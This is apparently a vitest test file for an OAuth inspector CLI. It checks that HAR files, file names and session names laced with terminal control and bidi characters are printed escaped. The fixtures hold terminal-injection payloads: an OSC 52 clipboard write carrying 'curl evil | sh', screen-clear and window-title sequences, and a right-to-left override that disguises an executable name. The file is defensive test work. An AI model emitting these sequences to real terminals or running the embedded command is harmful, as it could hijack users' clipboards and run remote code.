// A hostile HAR, file name or session name cannot drive the terminal: the real CLI prints their control and bidi characters escaped.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createSession } from '../session/session-store.ts';
import { runCli, type CliResult } from '../testing/cli-process.ts';
import { tempDirForFile } from '../testing/temp-dirs.ts';

const ESC = '\u001b';
const BEL = '\u0007';
const RLO = '\u202e';
/** OSC 52 writes the clipboard; ESC [2J clears the screen; OSC 0 sets the window title; CSI as one C1 byte. */
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`;
const CLEAR = `${ESC}[2J`;
const TITLE = `${ESC}]0;pwned${BEL}`;
const C1_CSI = '\u009b2J';
const HOSTILE = `${CLIPBOARD}${CLEAR}${RLO}${C1_CSI}`;

const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const home = await tempDirForFile('oi-cli-text-');

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

function entry(
  method: string,
  url: string,
  status: number,
  extra: { body?: string; responseBody?: string; location?: string; authorization?: string } = {},
) {
  return {
    startedDateTime: '2024-01-01T00:00:00.000Z',
    time: 1,
    request: {
      method,
      url,
      httpVersion: 'HTTP/1.1',
      headers: [
        ...(extra.body ? [{ name: 'Content-Type', value: 'application/x-www-form-urlencoded' }] : []),
        ...(extra.authorization ? [{ name: 'Authorization', value: extra.authorization }] : []),
      ],
      queryString: [],
      cookies: [],
      headersSize: -1,
      bodySize: -1,
      ...(extra.body ? { postData: { mimeType: 'application/x-www-form-urlencoded', text: extra.body } } : {}),
    },
    response: {
      status,
      statusText: `OK${CLEAR}`,
      httpVersion: 'HTTP/1.1',
      headers: extra.location ? [{ name: 'Location', value: extra.location }] : [],
      cookies: [],
      content: { size: extra.responseBody?.length ?? 0, mimeType: 'application/json', text: extra.responseBody ?? '' },
      redirectURL: '',
      headersSize: -1,
      bodySize: -1,
    },
    cache: {},
    timings: { send: 0, wait: 1, receive: 0 },
  };
}

/** A code flow whose client id, state, token type, ID-token claims, creator and API path carry terminal sequences. */
function hostileHar(): string {
  const client = encodeURIComponent(`spa${TITLE}`);
  const state = encodeURIComponent(HOSTILE);
  const idToken = `${b64url({ alg: 'RS256', typ: 'JWT' })}.${b64url({ iss: `https://login.example${CLIPBOARD}`, sub: `${CLEAR}alice${RLO}`, aud: `spa${TITLE}`, nonce: HOSTILE, exp: 1, iat: 0 })}.c2ln`;
  const entries = [
    entry(
      'GET',
      `https://login.example/authorize?response_type=code&scope=openid&client_id=${client}&state=${state}&redirect_uri=https%3A%2F%2Fapp.example%2Fcb`,
      302,
      { location: `https://app.example/cb?code=abc&state=${state}` },
    ),
    entry('GET', `https://app.example/cb?code=abc&state=${state}`, 200),
    entry('POST', 'https://login.example/token', 200, {
      body: `grant_type=authorization_code&code=abc&client_id=${client}&redirect_uri=https%3A%2F%2Fapp.example%2Fcb`,
      responseBody: JSON.stringify({
        access_token: `at${CLIPBOARD}`,
        token_type: `Bearer${CLEAR}`,
        id_token: idToken,
        expires_in: 3600,
      }),
    }),
    entry('GET', `https://api.example/items/${encodeURIComponent(`${RLO}gpj.exe`)}`, 200, {
      authorization: `Bearer at${CLIPBOARD}`,
    }),
  ];
  return JSON.stringify({
    log: { version: '1.2', creator: { name: `evil${HOSTILE}`, version: `1${TITLE}` }, entries },
  });
}

function expectNoRawControls(result: CliResult): void {
  const text = result.stdout + result.stderr;
  expect(text.match(RAW)?.[0], 'a raw control or bidi character reached the terminal').toBeUndefined();
}

describe('analyze on a hostile HAR', () => {
  it('prints the report with every control and bidi character escaped, the file name included', async () => {
    const file = join(home, `hostile${CLEAR}${RLO}.har`);
    await writeFile(file, hostileHar());
    const result = await runCli(['analyze', file], {}, { cwd: home });
    expect(result.code).toBe(0);
    expectNoRawControls(result);
    // Escaped, not dropped: the reader sees that the capture holds them.
    expect(result.stdout).toContain('hostile\\x1b[2J\\u{202E}.har: 4 exchange(s) from evil\\x1b]52;c;');
    expect(result.stdout).toContain(`client spa\\x1b]0;pwned\\x07 state \\x1b]52;c;`);
    expect(result.stdout).toContain('token_type is "Bearer\\x1b[2J"');
    expect(result.stdout).toContain('\\x9b2J');
  });

  it('prints JSON that a terminal cannot act on and that parses back to the captured values', async () => {
    const file = join(home, 'hostile.har');
    await writeFile(file, hostileHar());
    const result = await runCli(['analyze', file, '--json'], {}, { cwd: home });
    expect(result.code).toBe(0);
    expectNoRawControls(result);
    const json = JSON.parse(result.stdout) as { creator: string; flows: { state?: string }[] };
    expect(json.creator).toContain(`evil${HOSTILE}`);
    expect(json.flows[0]?.state).toBe(HOSTILE);
  });

  it('names a hostile missing file escaped', async () => {
    const result = await runCli(['analyze', join(home, `missing${TITLE}.har`)], {});
    expect(result.code).toBe(2);
    expectNoRawControls(result);
    expect(result.stderr.trim()).toBe(`There is no file ${join(home, 'missing')}\\x1b]0;pwned\\x07.har.`);
  });
});

describe('sessions with a hostile name', () => {
  it('are listed and exported with the name escaped', async () => {
    const dataDir = join(home, 'data');
    const name = `demo${TITLE}${CLEAR}${RLO}`;
    const session = await createSession(dataDir, name);
    const [listed, exported] = await Promise.all([
      runCli(['sessions', 'list', '--data-dir', dataDir], {}),
      runCli(['sessions', 'export', session.id, '--data-dir', dataDir], {}),
    ]);
    expect(listed.code).toBe(0);
    expectNoRawControls(listed);
    expect(listed.stdout).toContain(`${session.id}       0 exchanges  demo\\x1b]0;pwned\\x07\\x1b[2J\\u{202E}`);
    expect(exported.code).toBe(0);
    expectNoRawControls(exported);
    // The HAR names the session in its comment: escaped on the way out, the same name once parsed.
    expect((JSON.parse(exported.stdout) as { log: { comment: string } }).log.comment).toBe(
      `OAuth Inspector session "${name}"`,
    );
  });
});
